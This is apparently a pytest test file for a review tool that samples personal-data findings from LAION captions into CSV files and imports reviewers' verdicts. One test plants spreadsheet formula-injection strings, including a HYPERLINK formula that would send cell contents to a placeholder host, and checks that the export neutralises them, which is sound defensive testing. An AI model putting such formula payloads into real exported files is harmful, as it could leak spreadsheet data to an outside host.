"""Reviewing findings by hand: a sample is drawn, its marks come back without any text."""

from __future__ import annotations

import csv
import re
import stat
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest

from audit import review


@pytest.fixture
def places(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sample_warehouse: Path) -> Path:
    """The review's folder and a copy of the warehouse in a place of the test's own."""
    copy = tmp_path / sample_warehouse.name
    copy.write_bytes(sample_warehouse.read_bytes())
    monkeypatch.setenv("AUDIT_DATABASE", str(copy))
    monkeypatch.setattr(review, "FOLDER", tmp_path / "review")
    return copy


def marks(database: Path) -> list[tuple]:
    """What the database holds of marks, without their time."""
    with duckdb.connect(str(database), read_only=True) as connection:
        return connection.execute(
            "select * exclude (marked_at, rule_version) from staging.review_mark order by all"
        ).fetchall()


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def write(path: Path, rows: list[dict[str, str]], delimiter: str = ",", encoding: str = "utf-8"):
    with path.open("w", encoding=encoding, newline="", errors="replace") as file:
        writer = csv.DictWriter(file, rows[0].keys(), delimiter=delimiter)
        writer.writeheader()
        writer.writerows(rows)


def mark(path: Path, verdicts: list[str]) -> list[dict]:
    rows = read(path)
    for row, verdict in zip(rows, verdicts, strict=True):
        row["verdict"] = verdict
    write(path, rows)
    return rows


def test_marks_come_back_without_text(places: Path) -> None:
    path = review.sample("sample", "email", "caption", 10, seed=1)
    assert not stat.S_IMODE(path.stat().st_mode) & 0o077
    rows = mark(path, ["right"] * 7 + ["wrong"] * 2 + [""])
    for row in rows:
        assert all(value in row["caption"] for value in row["value"].split(" · "))
    assert review.import_marks("sample", [path]) == 9
    # Each mark belongs to what it was given for, there is no text, and the newer one wins.
    assert marks(places) == sorted(
        ("email", "caption", int(row["text_id"].split("/")[2]), "found", row["verdict"])
        for row in rows[:9]
    )
    mark(path, ["unclear"] * 10)
    assert review.import_marks("sample", [path]) == 10
    assert [row[4] for row in marks(places)] == ["unclear"] * 10


@pytest.mark.parametrize(
    ("delimiter", "encoding"),
    [(";", "utf-8-sig"), (";", "cp1252"), (",", "utf-8-sig"), ("\t", "utf-16")],
)
def test_marks_come_back_from_a_spreadsheet(places: Path, delimiter: str, encoding: str) -> None:
    """It has its own separator and encoding, and makes 1.44992E+18 of an image_id."""
    path = review.sample("sample", "person_name", None, 20, seed=1)
    plain = mark(path, ["right"] * 20)
    ids = sorted(int(row["text_id"].split("/")[2]) for row in plain)
    write(path, [row | {"value": "1,44992E+18"} for row in plain], delimiter, encoding)
    assert review.import_marks("sample", [path]) == 20
    assert sorted(row[2] for row in marks(places)) == ids


def test_captions_without_a_finding_are_drawn_and_marked(places: Path) -> None:
    """Of those in which the rule nearly found something as many as of the rest."""
    path = review.sample_missed("sample", "phone", 5, seed=1)
    rows = mark(path, ["missed", *["nothing"] * 9])
    assert review.import_marks("sample", [path]) == 10
    with duckdb.connect(str(places), read_only=True) as connection:
        strata = dict(
            connection.execute(
                "select stratum, text_count from staging.review_stratum where rule = 'phone'"
            ).fetchall()
        )
        unfound = connection.execute(
            "select count(*) from staging.stg_laion__images where caption is not null "
            "and image_id not in ("
            "select image_id from explore.findings where rule = 'phone' and field = 'caption')"
        ).fetchone()[0]
        hints = connection.execute(
            "select rules.may_hold_phone(unnest($1))", [[row["caption"] for row in rows]]
        ).fetchall()
    assert sum(strata.values()) == unfound
    assert [row[3] for row in marks(places)].count("nearly") == 5 == hints.count((True,))
    mark(path, ["right", *["nothing"] * 9])
    with pytest.raises(SystemExit, match="row 2: a verdict on a text without a finding is missed"):
        review.import_marks("sample", [path])


def test_no_cell_is_a_formula(places: Path) -> None:
    """Neither in a spreadsheet that splits at commas nor in one that splits at semicolons."""
    text = '=HYPERLINK("https://x.example/?"&A1;"x");\t@SUM(1);-2+3,+49 171\n=1+1\r=1'
    with duckdb.connect(str(places)) as connection:
        connection.execute(
            "update staging.stg_laion__images set caption = $text, url = '@x'",
            {"text": text},
        )
    path = review.sample("sample", "phone", None, 3, seed=1)
    content = path.read_bytes().decode()
    cells = [cell for row in csv.reader(content.splitlines(keepends=True)) for cell in row]
    cells += re.split(r"[;,\t\r\n]", content)
    assert len(cells) > 80
    assert [cell for cell in cells if cell.strip('"')[:1] in tuple("=+-@\t\r")] == []


def test_sample_is_seeded_and_keeps_marks(places: Path) -> None:
    path = review.sample("sample", "email", None, 5, seed=3)
    first = path.read_text(encoding="utf-8")
    with pytest.raises(SystemExit, match="import or delete it first"):
        review.sample("sample", "email", None, 5, seed=3)
    path.unlink()
    assert review.sample("sample", "email", None, 5, seed=3).read_text(encoding="utf-8") == first


def change(column: str, function: Callable[[str], str]) -> Callable[[Path], None]:
    """What makes the second of a file's rows wrong."""

    def spoil(path: Path) -> None:
        rows = mark(path, ["right", "right"])
        rows[1][column] = function(rows[1][column])
        write(path, rows)

    return spoil


@pytest.mark.parametrize(
    ("spoil", "message"),
    [
        (change("verdict", lambda _: "maybe"), "row 3: a verdict .* is right, wrong or unclear"),
        (change("text_id", lambda text: text[:-1]), "row 3: this warehouse has no such text"),
        (change("text_id", lambda _: ""), "row 3: this warehouse has no such text"),
        (
            change("text_id", lambda text: text[:-4] + "0000"),
            "row 3: this warehouse has no such text",
        ),
        (lambda path: path.write_text("rule,verdict\niban,right\n"), "has no column text_id"),
        (lambda path: path.write_text(""), "has no column text_id and no column verdict"),
        (Path.unlink, "cannot be read"),
    ],
)
def test_wrong_marks_are_named(places: Path, spoil: Callable[[Path], None], message: str) -> None:
    path = review.sample("sample", "iban", "caption", 2, seed=1)
    spoil(path)
    with pytest.raises(SystemExit, match=message):
        review.import_marks("sample", [path])
    assert marks(places) == []


def test_wrong_rule_and_an_audit_that_is_not_built_are_named(
    places: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(SystemExit, match="There is no rule 'telephone'"):
        review.sample("sample", "telephone", None, 2, seed=1)
    monkeypatch.setenv("AUDIT_DATABASE", str(tmp_path / "begun.duckdb"))
    with duckdb.connect(str(tmp_path / "begun.duckdb")) as connection:
        connection.execute("create schema intermediate")
        connection.execute("create table intermediate.hash_key (hash_key varchar)")
    with pytest.raises(SystemExit, match="make build"):
        review.sample("sample", "iban", None, 2, seed=1)
